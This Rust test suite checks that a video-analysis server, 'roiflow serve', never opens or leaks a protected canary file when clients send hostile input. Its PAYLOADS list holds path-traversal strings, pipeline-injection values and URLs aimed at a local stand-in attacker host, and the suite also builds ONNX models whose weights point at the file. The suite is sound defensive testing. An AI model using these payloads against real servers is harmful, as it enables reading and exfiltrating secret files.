//! Nothing that a client of `roiflow serve` gives makes the server open a file that is not for clients, or send its content away.
//!
//! The OpenAPI document of the server is the list of texts that a client can give. Each of them gets each payload. A canary file tells
//! whether the server opened it, and a socket records all bytes that the server sends.

use std::io::{ErrorKind, Read, Write};
use std::mem::MaybeUninit;
use std::net::{TcpListener, TcpStream};
use std::os::fd::OwnedFd;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use rustix::fs::inotify;
use serde_json::{Map, Value, json};

use crate::cli::Folder;
use crate::serve::{Served, send};
use crate::serve_models::upload;

/// The content of the canary, which is also a line for passwords. It is also the value of an environment variable.
const CONTENT: &str = "canary-7f3a9c0011aa22bb33";
const VARIABLE: &str = "ROIFLOW_TEST_CANARY";
/// Texts with the path of the canary (`FILE`) and the address of a server of the attacker (`HOST`).
const PAYLOADS: &[&str] = &[
    "FILE",
    "file://FILE",
    "file:FILE",
    "../../../../../../../..FILE",
    "link",
    "test:FILE",
    "@FILE",
    "http://HOST/s?x-token-file=FILE",
    "http://HOST/s?x-user=a&x-password-file=FILE",
    "http://HOST/s?x-secret-file=FILE",
    "http://HOST/s?x-credentials=FILE",
    "https://HOST/s?x-ca=FILE",
    "https://HOST/s?x-cert=FILE&x-key=FILE",
    "mqtt://HOST/s?user=a&password-file=FILE",
    "mqtts://HOST/s?ca=FILE",
    "nats://HOST/s?password-file=FILE",
    "tls://HOST/s?cert=FILE&key=FILE",
    "redis://HOST/0?password-file=FILE",
    "rediss://HOST/0?ca=FILE",
    "kafka://HOST/s?rdkafka.ssl.ca.location=FILE",
    "kafka://HOST/s?rdkafka.plugin.library.paths=FILE",
    "videotestsrc ! filesrc location=FILE ! fakesink",
    "x\" ! filesrc location=FILE ! fakesink name=\"y",
    "multifilesrc location=FILE",
    "pushfile://FILE",
    "v4l2://FILE",
    "http://a:b@HOST/s",
    "mqtt://a:b@HOST/s",
    "nats://a:b@HOST/s",
    "redis://a:b@HOST/0",
    "http://HOST/${ROIFLOW_TEST_CANARY}",
    "mqtt://a:${ROIFLOW_TEST_CANARY}@HOST/s",
];

/// A file that reports each access.
struct Canary {
    path: String,
    events: OwnedFd,
}

impl Canary {
    fn new(folder: &Folder) -> Self {
        let path = folder.file("canary");
        std::fs::write(&path, format!("{CONTENT}\n")).unwrap();
        Self::watch(path)
    }

    fn watch(path: String) -> Self {
        let events = inotify::init(inotify::CreateFlags::NONBLOCK).unwrap();
        inotify::add_watch(&events, &*path, inotify::WatchFlags::OPEN | inotify::WatchFlags::ACCESS).unwrap();
        Self { path, events }
    }

    /// Whether the file was opened or read since the last call.
    fn was_used(&self) -> bool {
        let mut buffer = [MaybeUninit::uninit(); 4096];
        inotify::Reader::new(&self.events, &mut buffer).next().is_ok()
    }
}

/// A server that accepts the first bytes of all protocols, and records them.
struct Attacker {
    port: u16,
    received: Arc<Mutex<Vec<u8>>>,
}

impl Attacker {
    fn new() -> Self {
        let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
        let (port, received) = (listener.local_addr().unwrap().port(), Arc::new(Mutex::new(Vec::new())));
        let of_thread = received.clone();
        std::thread::spawn(move || {
            for client in listener.incoming().flatten() {
                let received = of_thread.clone();
                std::thread::spawn(move || record(client, &received));
            }
        });
        Self { port, received }
    }
}

fn record(mut client: TcpStream, received: &Mutex<Vec<u8>>) {
    client.set_read_timeout(Some(Duration::from_millis(100))).unwrap();
    let mut bytes = [0; 4096];
    loop {
        match client.read(&mut bytes) {
            Ok(0) => return,
            Ok(n) => {
                received.lock().unwrap().extend_from_slice(&bytes[..n]);
                if bytes.starts_with(b"GET ") || bytes.starts_with(b"POST ") || bytes.starts_with(b"HEAD ") {
                    let _sent = client.write_all(b"HTTP/1.1 401 x\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
                    return;
                }
            }
            // A NATS server speaks first.
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                if client.write_all(b"INFO {\"headers\":true,\"max_payload\":1048576}\r\n").is_err() {
                    return;
                }
            }
            Err(_) => return,
        }
    }
}

/// A place for a text in the body of a request: the keys of objects; `[]` is an item of an array, and `{}` the key of a map.
type Place = Vec<String>;

/// Finds all texts of a JSON schema.
fn places(schema: &Value, document: &Value, place: &Place, found: &mut Vec<Place>) {
    let with = |key: &str| [&place[..], &[key.to_owned()]].concat();
    if let Some(name) = schema["$ref"].as_str() {
        return places(document.pointer(name.trim_start_matches('#')).unwrap(), document, place, found);
    }
    let kind = &schema["type"];
    let is = |name: &str| *kind == name || kind.as_array().is_some_and(|kinds| kinds.iter().any(|kind| kind == name));
    if is("string") && schema["enum"].is_null() {
        found.push(place.clone());
    }
    if is("array") {
        places(&schema["items"], document, &with("[]"), found);
    }
    for (name, property) in schema["properties"].as_object().into_iter().flatten() {
        places(property, document, &with(name), found);
    }
    if schema["additionalProperties"].is_object() {
        found.push(with("{}"));
        // `colors` has these parameters.
        let names: &[&str] = if place.last().is_some_and(|name| name == "parameters") { &["detector", "device"] } else { &["site"] };
        for &name in names {
            places(&schema["additionalProperties"], document, &with(name), found);
        }
    }
    for any in ["anyOf", "oneOf", "allOf"] {
        schema[any].as_array().into_iter().flatten().for_each(|schema| places(schema, document, place, found));
    }
}

/// Returns a body with a text at a place.
fn with_text(body: &Value, place: &[String], text: &str) -> Value {
    let Some((key, rest)) = place.split_first() else { return text.into() };
    match &**key {
        "[]" => vec![with_text(&Value::Null, rest, text)].into(),
        key => {
            let mut object: Map<String, Value> = body.as_object().cloned().unwrap_or_default();
            let (key, value) = match key {
                "{}" => (text, "x".into()),
                key => (key, with_text(&body[key], rest, text)),
            };
            object.insert(key.to_owned(), value);
            object.into()
        }
    }
}

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") }).collect()
}

/// Records the files that a process and its children open, if the system allows that.
fn strace(pid: u32, log: &str) -> Option<Child> {
    let mut command = Command::new("strace");
    command.args(["-f", "-qq", "-e", "trace=open,openat,execve,connect", "-s", "500", "-o", log, "-p", &pid.to_string()]);
    let mut child = command.stdin(Stdio::null()).stderr(Stdio::null()).spawn().ok()?;
    // The kernel shows the tracer of a process.
    for _ in 0..1000 {
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
        if status.lines().any(|line| line.starts_with("TracerPid:") && !line.ends_with("\t0")) {
            return Some(child);
        }
        if child.try_wait().ok()?.is_some() {
            return None;
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    None
}

#[test]
fn names_of_files_in_the_working_folder_are_no_files_for_clients() {
    let folder = Folder::new("canary-beside");
    std::fs::create_dir(folder.file("models")).unwrap();
    // `Served` starts the server in this folder.
    let canary = Canary::new(&folder);
    let text = "version = 1\nname = \"own\"\ndescription = \"Finds.\"\n\
        [parameters.description]\ntype = \"string\"\ndefault = \"\"\n[parameters.proc]\ntype = \"string\"\ndefault = \"\"\n\
        [parameters.labels]\ntype = \"string\"\ndefault = \"\"\n[parameters.gallery]\ntype = \"string\"\ndefault = \"\"\n\
        [parameters.font]\ntype = \"string\"\ndefault = \"\"\n[pipeline]\ngraph = \"{source} ! roidetect model=MODEL \
        description={description} model-proc={proc} labels-file={labels} ! roiclassify model=MODEL gallery={gallery} ! roioverlay font={font} ! {json} ! {video}\"\n";
    std::fs::write(folder.file("own.toml"), text.replace("MODEL", &crate::harness::tiny("rectangle.onnx"))).unwrap();
    let server = Served::start(&folder, &["--models", &folder.file("models")]);
    for name in ["description", "proc", "labels", "gallery", "font"] {
        for value in ["canary", "no-such-file"] {
            let stream = json!({"name": "s", "pipeline": "own", "input": "test:1", "parameters": {name: value}});
            let (status, answer) = server.json("POST", "/api/streams", Some(stream));
            assert_eq!(status, 400, "{name}: {answer}");
            assert!(!canary.was_used(), "{name}: {answer}");
            let message = answer["error"]["message"].as_str().unwrap_or_default();
            assert!(message.contains(&format!("parameter `{name}`: expected a file in the model folder")), "{answer}");
        }
    }
    let (code, said) = server.end();
    assert_eq!(code, Some(0), "{said}");
}

#[test]
fn links_in_a_folder_of_images_lead_clients_nowhere() {
    let folder = Folder::new("canary-images");
    let outside = Folder::new("canary-images-outside");
    outside.picture("canary.png", 64, 48, [0, 255, 0]);
    let canary = Canary::watch(outside.file("canary.png"));
    std::fs::create_dir(folder.file("images")).unwrap();
    folder.picture("images/a.png", 64, 48, [0, 255, 0]);
    let server = Served::start(&folder, &[]);
    let stream = |name: &str| json!({"name": name, "pipeline": "colors", "input": "images"});
    assert_eq!(server.json("POST", "/api/streams", Some(stream("before"))).0, 201);
    std::os::unix::fs::symlink(&canary.path, folder.file("images/b.png")).unwrap();
    let (status, answer) = server.json("POST", "/api/streams", Some(stream("after")));
    assert!(status == 400 && answer["error"]["message"].as_str().unwrap().contains("the link `b.png`"), "{answer}");
    assert!(!canary.was_used());
    let (code, said) = server.end();
    assert_eq!(code, Some(0), "{said}");
}

/// Method, path, and the body with the place of a text in it.
type Request = (String, String, Option<(Value, Place)>);

#[test]
fn no_text_of_a_client_opens_or_sends_a_file() {
    let folder = Folder::new("canary");
    for name in ["models", "pipelines"] {
        std::fs::create_dir(folder.file(name)).unwrap();
    }
    let outside = Folder::new("canary-outside");
    let canary = Canary::new(&outside);
    for name in ["link", "models/link"] {
        std::os::unix::fs::symlink(&canary.path, folder.file(name)).unwrap();
    }
    let settings = "models = \"models\"\nupload-models = true\n[limits]\nrequests-per-second = 0\n";
    std::fs::write(folder.file("server.toml"), settings).unwrap();
    let server = Served::start_with(&folder, &["--config", &folder.file("server.toml")], &[(VARIABLE, CONTENT)]);
    let log = folder.file("strace.log");
    let tracer = strace(server.id(), &log);
    let attacker = Attacker::new();

    let (_, document) = server.json("GET", "/api/openapi.json", None);
    let mut requests: Vec<Request> = Vec::new();
    for (path, methods) in document["paths"].as_object().unwrap() {
        for (method, operation) in methods.as_object().unwrap() {
            let schema = &operation["requestBody"]["content"]["application/json"]["schema"];
            let body = match (&**method, &**path) {
                ("post", "/api/streams") => json!({"name": "s", "pipeline": "colors", "input": "test:1"}),
                _ => json!({}),
            };
            let mut found = Vec::new();
            places(schema, &document, &Vec::new(), &mut found);
            let method = method.to_uppercase();
            requests.extend(found.into_iter().map(|place| (method.clone(), path.clone(), Some((body.clone(), place)))));
            for parameter in operation["parameters"].as_array().into_iter().flatten() {
                let name = parameter["name"].as_str().unwrap();
                let path = match parameter["in"].as_str().unwrap() {
                    "path" => path.replace(&format!("{{{name}}}"), "{PAYLOAD}"),
                    _ => format!("{path}?{name}={{PAYLOAD}}"),
                };
                // A live answer does not end.
                if !["/live", "/ws", "/mjpeg", "/video"].iter().any(|part| path.split('?').next().unwrap().ends_with(part)) {
                    requests.push((method.clone(), path, None));
                }
            }
        }
    }
    assert!(requests.len() > 25, "{requests:?}");
    let fixed = json!({"name": "door", "pipeline": "colors", "input": "test:1"});
    assert_eq!(server.json("POST", "/api/streams", Some(fixed)).0, 201);

    let mut n_requests = 0;
    for (method, path, body) in &requests {
        for payload in PAYLOADS {
            let answer = |file: &str| {
                let text = payload.replace("FILE", file).replace("HOST", &format!("127.0.0.1:{}", attacker.port));
                let body = body.as_ref().map(|(body, place)| with_text(body, place, &text));
                let path = path.replace("{PAYLOAD}", &encoded(&text)).replace("{name}", "door").replace("{id}", "1");
                let (status, bytes) = send(&server.address, method, &path, body);
                let said = String::from_utf8_lossy(&bytes).into_owned();
                assert!(!said.contains(CONTENT), "{method} {path} {text}: {said}");
                if method == "POST" && path == "/api/streams" && status == 201 {
                    let view: Value = serde_json::from_slice(&bytes).unwrap();
                    let name = view["name"].as_str().unwrap();
                    server.wait_until(name, |view| view["state"] != "starting");
                    assert_eq!(server.send("DELETE", &format!("/api/streams/{name}"), None).0, 200);
                }
                // A part of the path may be hidden.
                let name = file.rsplit('/').next().unwrap();
                (status, said.replace(file, "FILE").replace(&encoded(file), "FILE").replace(&format!("/{name}"), "/NAME"))
            };
            let (status, said) = answer(&canary.path);
            assert!(!canary.was_used(), "{method} {path} {body:?} {payload}: the file was opened: {status} {said}");
            n_requests += 1;
            // A path of the same length: the answer does not tell that it does not exist. Addresses are tried for real.
            if (400..500).contains(&status) && status != 422 {
                let (other, reason) = answer(&format!("{}z", &canary.path[..canary.path.len() - 1]));
                assert_eq!((status, &said), (other, &reason), "{method} {path} {body:?} {payload}");
            }
        }
    }
    println!("{n_requests} requests");

    // Models that name the file as their weights or labels, also where links lead out of the folder.
    let field = |number: u8, content: &[u8]| [&[number << 3 | 2, u8::try_from(content.len()).unwrap()], content].concat();
    let relative = format!("../..{}", canary.path.strip_prefix(std::env::temp_dir().to_str().unwrap().trim_end_matches('/')).unwrap());
    for (idx, location) in [&*canary.path, &relative, "link"].into_iter().enumerate() {
        let place = [field(1, b"location"), field(2, location.as_bytes())].concat();
        let tensor = [vec![1 << 3, 1, 2 << 3, 1], field(8, b"w"), field(13, &place), vec![14 << 3, 1]].concat();
        let model = [std::fs::read(crate::harness::tiny("double.onnx")).unwrap(), field(7, &field(5, &tensor))].concat();
        let name = format!("m{idx}.onnx");
        let (status, said) = upload(&server, &name, &model);
        assert!(!canary.was_used(), "{location}: {status} {said}");
        let text = std::fs::read_to_string(crate::harness::tiny("rectangle.toml")).unwrap();
        let (status, said) = upload(&server, &format!("d{idx}.toml"), format!("labels-file = \"{location}\"\n{text}").as_bytes());
        assert_eq!(status, 201, "{said}");
        let rectangle = std::fs::read(crate::harness::tiny("rectangle.onnx")).unwrap();
        let (status, said) = upload(&server, &format!("d{idx}.onnx"), &rectangle);
        assert!(!canary.was_used(), "{location}: {status} {said}");
        let stream = json!({"name": "model", "pipeline": "detect", "input": "test:1", "parameters": {"model": format!("d{idx}.onnx")}});
        let (status, said) = server.json("POST", "/api/streams", Some(stream));
        if status == 201 {
            server.wait_until("model", |view| view["state"] != "starting");
            assert_eq!(server.send("DELETE", "/api/streams/model", None).0, 200);
        }
        assert!(!canary.was_used(), "{location}: {status} {said}");
    }

    let received = attacker.received.lock().unwrap().clone();
    let received = String::from_utf8_lossy(&received);
    assert!(!received.contains(CONTENT), "{received}");
    // The passwords of the protocols arrive, so the attacker would have received the canary.
    assert!(received.contains("POST /s"), "the server has sent results to the attacker: {received}");
    let (code, said) = server.end();
    assert!(code == Some(0) && !said.contains(CONTENT), "{said}");
    if let Some(mut tracer) = tracer {
        tracer.wait().unwrap();
        let opened = std::fs::read_to_string(&log).unwrap();
        let wrong = opened.lines().find(|line| line.contains(&canary.path) && !line.contains("ENOENT"));
        assert!(opened.contains("connect(") && wrong.is_none(), "{wrong:?}");
    }
    // The canary works: opening it is noticed.
    std::fs::read(&canary.path).unwrap();
    assert!(canary.was_used());
}
